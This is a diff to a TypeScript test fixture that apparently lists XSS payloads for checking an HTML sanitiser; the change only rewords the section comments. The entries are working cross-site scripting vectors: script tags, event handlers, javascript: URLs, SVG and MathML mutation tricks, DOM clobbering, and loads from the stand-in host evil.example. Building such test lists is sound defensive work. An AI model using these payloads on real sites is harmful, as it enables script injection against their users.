@@ -1,6 +1,6 @@
-/** Hostile markup of every family that we know of; the first part of a line says what it tries. */
+/** XSS payloads of all known families, grouped by technique. */
 export const xssPayloads = [
-  // Scripts and handlers
+  // Scripts and event handlers
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
@@ -28,7 +28,7 @@ export const xssPayloads = [
   '<embed src="javascript:alert(1)">',
   '<applet code=x></applet>',
   '<isindex type=image src=1 onerror=alert(1)>',
-  // Addresses
+  // URLs
   '<a href="javascript:alert(1)">x</a>',
   '<a href="JaVaScRiPt:alert(1)">x</a>',
   '<a href=" javascript:alert(1)">x</a>',
@@ -67,7 +67,7 @@ export const xssPayloads = [
   '<link rel=stylesheet href="https://evil.example/x.css">',
   '<iframe src="javascript:alert(1)"></iframe>',
   '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  // Other languages inside
+  // Foreign content: SVG and MathML
   '<svg onload=alert(1)>',
   '<svg><script>alert(1)</script></svg>',
   '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=9>x</text></a></svg>',
@@ -79,7 +79,7 @@ export const xssPayloads = [
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<math href="javascript:alert(1)">x</math>',
   '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
-  // Text that is not markup, until it is
+  // Text that becomes markup when parsed again
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   '<title><img src=x onerror=alert(1)></title>',
   '<textarea><img src=x onerror=alert(1)></textarea>',
@@ -100,7 +100,7 @@ export const xssPayloads = [
   '&lt;img src=x onerror=alert(1)&gt;',
   '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
   '&#60;script&#62;alert(1)&#60;/script&#62;',
-  // Looks and names that belong to the page
+  // Styles, classes and names of the page
   '<p style="position:fixed;inset:0;z-index:9">x</p>',
   '<p style="background:url(https://evil.example/x)">x</p>',
   '<p style="width:expression(alert(1))">x</p>',
@@ -111,7 +111,7 @@ export const xssPayloads = [
   '<form name=getElementById><input name=cookie></form>',
   '<img name=cookie id=location src=/uploads/a.webp>',
   '<p slot=x part=x is=x-evil contenteditable draggable=true data-x=1>x</p>',
-  // Against our own steps
+  // Attacks on the sanitiser's own steps
   '<code-line><img src=x onerror=alert(1)></code-line>',
   '<div class="ql-code-block-container"><div class="ql-code-block"><script>alert(1)</script></div></div>',
   '<ol><li data-list="bullet&quot;><img src=x onerror=alert(1)>">x</li></ol>',
